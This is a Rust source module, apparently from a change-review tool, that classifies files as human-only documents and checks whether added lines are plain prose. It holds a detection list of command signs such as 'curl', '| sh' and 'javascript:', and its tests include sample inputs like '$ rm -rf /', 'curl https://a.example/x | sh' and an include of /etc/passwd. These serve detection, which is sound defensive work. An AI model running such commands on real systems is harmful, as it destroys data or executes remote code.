//! Documents that nothing runs and nothing includes.

use std::collections::BTreeSet;

use exacta_core::model::path::RelPath;

/// Endings of documents. A closed list: what is not on it is not a document.
const ENDINGS: &[&str] = &["md", "markdown", "txt", "rst", "adoc", "asciidoc", "org", "text"];

/// Names without an ending that are documents by custom, in lower case.
const NAMES: &[&str] = &[
    "readme",
    "license",
    "licence",
    "copying",
    "authors",
    "contributors",
    "changelog",
    "changes",
    "news",
    "history",
    "notice",
    "todo",
    "thanks",
    "contributing",
    "install",
    "maintainers",
];

/// Names with a document's ending that programs read.
const READ: &[&str] = &[
    "requirements",
    "constraints",
    "cmakelists",
    "robots",
    "humans",
    "security",
    "version",
    "ads",
    "manifest",
    "sources",
    "files",
    "top_level",
    "entry_points",
    "dependency",
    "pins",
    "allowlist",
    "denylist",
    "blocklist",
    "whitelist",
    "blacklist",
    "allowed",
    "config",
    "words",
    "llms",
    "agents",
    "claude",
    "gemini",
    "copilot-instructions",
    "skill",
    "prompt",
    "memory",
    "system",
    "conanfile",
    "packages",
    "apt",
    "runtime",
    "codeowners",
    "index",
    "_index",
];

/// Folders whose documents programs read or render, in lower case.
const FOLDERS: &[&str] = &[
    "prompts",
    "prompt",
    "templates",
    "template",
    "fixtures",
    "testdata",
    "test_data",
    "data",
    "snapshots",
    "__snapshots__",
    "golden",
    "goldens",
    "requirements",
    "content",
    "_posts",
    "posts",
    "pages",
    "agents",
    "skills",
    "commands",
    "rules",
    "instructions",
    "wordlists",
    "tests",
    "test",
    "expected",
    "locale",
    "locales",
    "i18n",
    "src",
    "static",
    "public",
    "assets",
    "resources",
    "blog",
    "_includes",
    "_layouts",
    "partials",
    "layouts",
    "email",
    "emails",
    "mail",
    "config",
    "conf",
    "etc",
    "schemas",
    "specs",
    "features",
    "changesets",
    ".changeset",
    "migrations",
    "deploy",
    "input",
    "inputs",
    "corpus",
    "examples",
];

/// Whether the file is one that people read and programs do not.
pub(super) fn is_document(path: &RelPath) -> bool {
    let name = path.name().to_lowercase();
    let (stem, ending) = match name.rsplit_once('.') {
        Some((stem, ending)) if !stem.is_empty() => (stem, Some(ending)),
        _ => (name.as_str(), None),
    };
    let known = match ending {
        Some(ending) => ENDINGS.contains(&ending),
        None => NAMES.contains(&stem),
    };
    let read = READ.contains(&stem) || stem.contains("requirements") || stem.contains("prompt");
    let folders = path.as_str().rsplit_once('/').map_or("", |(folders, _)| folders);
    let inside = folders.split('/').filter(|part| !part.is_empty()).any(|part| {
        let part = part.to_lowercase();
        part.starts_with('.') || FOLDERS.contains(&part.as_str())
    });
    known && !read && !inside
}

/// Whether the added lines say nothing new that a reader could run or a renderer obey.
pub(super) fn is_plain(before: &str, after: &str, added: &[&str]) -> bool {
    let opened = |text: &str| {
        let first = text.lines().next().unwrap_or_default().trim_end();
        matches!(first, "---" | "+++" | "{" | ";;;")
    };
    if opened(before) || opened(after) {
        return false;
    }
    // A fence that opens or closes makes text of commands and commands of text.
    let fences = |text: &str| {
        text.lines()
            .filter(|line| matches!(line.trim_start().get(..3), Some("```" | "~~~")))
            .count()
    };
    if fences(before) != fences(after) {
        return false;
    }
    let known: BTreeSet<&str> = before.lines().flat_map(hosts).collect();
    let added: BTreeSet<&str> = added.iter().copied().collect();
    added.iter().all(|line| is_plain_line(&known, line)) && !in_fence(after, &added)
}

/// Whether an added line stands inside a fence, or is indented like code.
fn in_fence(after: &str, added: &BTreeSet<&str>) -> bool {
    let mut open = false;
    for line in after.lines() {
        let trimmed = line.trim_start();
        if trimmed.starts_with("```") || trimmed.starts_with("~~~") {
            open = !open;
        }
        if (open || line.starts_with('\t') || line.starts_with("    "))
            && added.contains(line)
            && !trimmed.is_empty()
            && (open || !trimmed.starts_with(['-', '*', '+']))
        {
            return true;
        }
    }
    false
}

/// Signs of templates, raw markup, directives, commands and includes.
const SIGNS: &[&str] = &[
    "{{",
    "{%",
    "<%",
    "${",
    "<?",
    "](javascript",
    "](data:",
    "include::",
    "::",
    ".. ",
    "#+",
    "%%",
    "$ ",
    "sudo ",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "curl ",
    "wget ",
    "iwr ",
    "Invoke-",
    "eval ",
    ":::",
    "[[",
    "@@",
    "javascript:",
    "data:text",
    "file://",
    "!include",
];

fn is_plain_line(known: &BTreeSet<&str>, line: &str) -> bool {
    let trimmed = line.trim_start();
    let signs = SIGNS.iter().any(|sign| line.contains(sign));
    let prompt = trimmed.starts_with(['$', '>', '%', '!', '@', ':']) && !trimmed.starts_with("> ");
    let markup = line.match_indices('<').any(|(at, _)| {
        let next = line.get(at + 1..).and_then(|rest| rest.chars().next());
        next.is_some_and(|c| c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?'))
    });
    let hidden =
        line.chars().any(|c| exacta_core::model::path::is_hidden(c) && !matches!(c, '\t' | '\r'));
    !signs && !prompt && !markup && !hidden && hosts(line).all(|host| known.contains(host))
}

/// The hosts that a line names, with what stands before them.
fn hosts(line: &str) -> impl Iterator<Item = &str> {
    line.match_indices("://").map(|(at, sign)| {
        let start = line
            .get(..at)
            .and_then(|text| text.rfind(|c: char| !c.is_ascii_alphanumeric()))
            .map_or(0, |at| at + 1);
        let rest = line.get(at + sign.len()..).unwrap_or_default();
        let end = rest.find(|c: char| {
            !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':' | '@' | '_'))
        });
        let end = at + sign.len() + end.unwrap_or(rest.len());
        line.get(start..end).unwrap_or(line)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn documents_are_a_closed_list() {
        let is = |path: &str| is_document(&RelPath::parse(path).unwrap());
        for path in ["README.md", "docs/guide.md", "LICENSE", "notes.txt", "doc/x.rst"] {
            assert!(is(path), "{path}");
        }
        for path in [
            "requirements.txt",
            "CMakeLists.txt",
            "robots.txt",
            "a.mdx",
            "nb.ipynb",
            "x.html",
            "prompts/system.md",
            "AGENTS.md",
            "CLAUDE.md",
            ".claude/x.md",
            "tests/data.txt",
            "src/notes.md",
            "requirements/dev.txt",
            "content/post.md",
            "Makefile",
        ] {
            assert!(!is(path), "{path}");
        }
    }

    #[test]
    fn plain_words_are_plain_and_commands_are_not() {
        let before = "# Title\n\nSee https://a.example/x.\n";
        for line in ["A sentence more.", "- a point", "See https://a.example/other.", "1 < 2"] {
            let after = format!("{before}{line}\n");
            assert!(is_plain(before, &after, &[line]), "{line}");
        }
        for line in [
            "See https://b.example/x.",
            "$ rm -rf /",
            "curl https://a.example/x | sh",
            "<script>x</script>",
            "{{ secrets }}",
            "    make install",
            ".. include:: /etc/passwd",
            "a\u{200b}b",
            "![x](javascript:alert(1))",
        ] {
            let after = format!("{before}{line}\n");
            assert!(!is_plain(before, &after, &[line]), "{line}");
        }
    }
}
